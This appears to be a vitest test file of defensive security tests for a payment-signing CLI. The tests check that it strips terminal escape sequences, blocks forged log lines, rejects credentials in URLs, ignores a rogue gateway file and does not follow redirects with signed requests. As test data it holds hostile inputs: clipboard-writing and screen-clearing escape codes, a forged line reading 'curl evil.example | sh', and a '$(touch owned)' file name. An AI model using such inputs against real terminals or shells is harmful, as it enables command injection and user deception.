import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { privateKeyToAddress } from 'viem/accounts';
import { afterEach, expect, test } from 'vitest';
import { jsonOf } from '../../src/cli/lib/output.ts';
import { fields, harmless, table } from '../../src/cli/lib/text.ts';
import { pipe } from './support/command.ts';
import { PASSWORD, useHome, withEnv } from './support/home.ts';
import { putKey, SOME_KEY } from './support/keys.ts';
import { openTerminal } from './support/terminal.ts';

const home = useHome();
const known = () => withEnv(home(), { COUNTERSIGN_PASSWORD: PASSWORD });

const servers: Server[] = [];
afterEach(() => {
  for (const server of servers.splice(0)) server.close();
});

const serve = async (answer: RequestListener): Promise<string> => {
  const server = createServer(answer);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
};

const KNOWN_TO_ALL = `0x${'1'.repeat(64)}` as const;
const person = { address: privateKeyToAddress(KNOWN_TO_ALL), privateKey: KNOWN_TO_ALL };

/** Writes the stack file of an attacker's directory. */
const putStack = async (gateway: string): Promise<void> => {
  const rest = { audience: gateway, rpc: gateway, chainId: 84_532, facilitator: gateway };
  const people = { operator: person, owner: person, agent: person, agents: [person] };
  const stack = { gateway, ...rest, upstream: gateway, payTo: person.address, ...people };
  await mkdir(join(home().directory, '.dev'), { recursive: true });
  await writeFile(join(home().directory, '.dev', 'stack.json'), JSON.stringify(stack));
};

const ESC = String.fromCharCode(27);

test('strips terminal controls from texts and member names of a refusal (CWE-150)', async () => {
  const evil = `${ESC}]0;owned${String.fromCharCode(7)}${ESC}[2J`;
  const origin = await serve((_, response) => {
    response.writeHead(403, { 'content-type': 'application/problem+json' });
    const type = 'urn:countersign:problem:forbidden';
    response.end(
      JSON.stringify({ type, title: evil, hint: evil, [`${evil}member`]: evil, __proto__x: 1 }),
    );
  });
  await putKey(home(), 'treasury', SOME_KEY);
  const { code, stderr } = await pipe(known(), ['call', `${origin}/x`, '--as', 'treasury']);
  expect(code).not.toBe(0);
  expect(stderr).toContain('member');
  expect(stderr).not.toContain(ESC);
});

test('prints an answer without terminal controls on a terminal, and resets it before its own line', async () => {
  const clipboard = `${ESC}]52;c;b3duZWQ=${String.fromCharCode(7)}`;
  const origin = await serve((_, response) => response.end(`river\u200b ${clipboard}${ESC}[8m`));
  await putKey(home(), 'treasury', SOME_KEY);
  const words = ['call', `${origin}/x`, '--as', 'treasury'];
  const shown = openTerminal(known(), words);
  expect(await shown.ended()).toBe(0);
  expect(shown.raw()).toContain('river ');
  expect(shown.raw()).not.toContain('\u200b');
  expect(shown.raw()).not.toContain(`${ESC}]52`);
  expect(shown.raw()).not.toContain(`${ESC}[8m`);
  expect(shown.shown()).toContain('nothing charged');

  const raw = openTerminal(known(), [...words, '--raw']);
  expect(await raw.ended()).toBe(0);
  expect(raw.raw()).toContain(clipboard);
  expect(raw.raw().indexOf(`${ESC}[0m`, raw.raw().indexOf(`${ESC}[8m`))).toBeLessThan(
    raw.raw().indexOf('nothing charged'),
  );
  const { stdout } = await pipe(known(), words);
  expect(stdout).toBe(`river\u200b ${clipboard}${ESC}[8m`);
});

test('strips terminal controls from the answers that `doctor` prints', async () => {
  const evil = `${ESC}[2Jx`;
  const origin = await serve((request, response) => {
    if (request.url === '/healthz') {
      response.end(JSON.stringify({ status: evil }));
      return;
    }
    response.writeHead(request.url?.startsWith('/admin/') === true ? 403 : 404, {
      'content-type': 'application/problem+json',
      'www-authenticate': `AgentIntent audience="${origin}", tool="x", chains="eip155:84532"`,
    });
    response.end(JSON.stringify({ type: 'urn:countersign:problem:forbidden', hint: evil }));
  });
  await putKey(home(), 'treasury', SOME_KEY);
  const words = ['doctor', '--gateway', origin, '--as', 'treasury'];
  const { stdout, stderr } = await pipe(known(), words);
  expect(stdout).toContain('gateway');
  expect(stdout + stderr).not.toContain(ESC);
});

test('lets no control sequence but colours reach the terminal', () => {
  const csi = String.fromCharCode(0x9b);
  const said = `${ESC}[31mred${ESC}[0m ${ESC}]0;owned${String.fromCharCode(7)} ${csi}2J\r\n\tend`;
  expect(harmless(said)).toBe(`${ESC}[31mred${ESC}[0m ]0;owned 2J\n\tend`);
  expect(harmless(`${ESC}[8mhidden ${ESC}[30;40mblack`)).toBe('[8mhidden [30;40mblack');
  expect(jsonOf({ label: csi })).toBe('{"label":"\\u009b"}');
});

test('prevents a line end in a value from forging a line (CWE-117)', () => {
  const columns = [{ title: 'LABEL' }, { title: 'STATUS' }];
  expect(table(columns, [['a  active\nb', 'frozen']], 80).split('\n')).toHaveLength(2);
  const shown = fields([['detail', 'fine\nnext   curl evil.example | sh']]);
  expect(shown.split('\n').filter((line) => line.startsWith('next'))).toEqual([]);
});

test('ignores a stack file that names a gateway on another machine', async () => {
  await putStack('https://evil.example');
  await putKey(home(), 'treasury', SOME_KEY);
  const words = ['credits', 'top-up', '$5', '--as', 'treasury', '--json'];
  const { code, stdout } = await pipe(known(), words);
  expect(code).toBe(2);
  expect(stdout).toContain('does not know which gateway to call');
});

test('refuses to grant to a public key at a gateway on another machine', async () => {
  await putStack('http://127.0.0.1:8787');
  await putKey(home(), 'treasury', SOME_KEY);
  const remote = ['--gateway', 'https://gateway.example', '--as', 'treasury', '--json'];
  const { code, stdout } = await pipe(known(), ['grant', 'agent1', '--total', '$5', ...remote]);
  expect(JSON.parse(stdout)).toMatchObject({ error: { code: 'public_key' } });
  expect(code).toBe(4);
});

test('rejects a URL with a password without repeating it', async () => {
  await putKey(home(), 'treasury', SOME_KEY);
  const url = 'https://me:hunter22@gateway.example/x';
  const { code, stdout, stderr } = await pipe(known(), ['call', url, '--as', 'treasury', '--json']);
  expect(code).toBe(2);
  expect(stdout + stderr).not.toContain('hunter22');
});

test('completes no file name that a shell would expand', async () => {
  await putKey(home(), 'treasury', SOME_KEY);
  await writeFile(join(home().home, 'keys', '$(touch owned).json'), '{}');
  const { stdout } = await pipe(home(), ['complete', '--', 'call', '--as', '']);
  expect(stdout).toContain('treasury');
  expect(stdout).not.toContain('touch');
});

test('follows no redirect with a signed request', async () => {
  const seen: string[] = [];
  const other = await serve((request, response) => {
    seen.push(...Object.keys(request.headers).filter((name) => /intent|payment/.test(name)));
    response.end('{}');
  });
  const origin = await serve((_, response) => {
    response.writeHead(307, { location: `${other}/x` });
    response.end();
  });
  await putKey(home(), 'treasury', SOME_KEY);
  for (const words of [
    ['call', `${origin}/x`],
    ['credits', 'show', '--gateway', origin],
    ['settlements', '--operator', '--gateway', origin],
  ]) {
    await pipe(known(), [...words, '--as', 'treasury']);
  }
  expect(seen).toEqual([]);
});

test('ends `tail` when the gateway refuses the feed, on every version of Node', async () => {
  await putKey(home(), 'treasury', SOME_KEY);
  const origin = await serve((request, response) => {
    if (request.url?.startsWith('/.well-known/') === true) {
      const networks = [{ network: 'eip155:84532', asset: `0x${'03'.repeat(20)}` }];
      response.end(JSON.stringify({ networks }));
      return;
    }
    response.writeHead(403, { 'content-type': 'application/problem+json' });
    response.end(JSON.stringify({ type: 'urn:countersign:problem:forbidden', title: 'No' }));
  });
  const { stdout } = await pipe(known(), [
    'tail',
    '--gateway',
    origin,
    '--as',
    'treasury',
    '--json',
  ]);
  expect(stdout).not.toContain('internal');
});
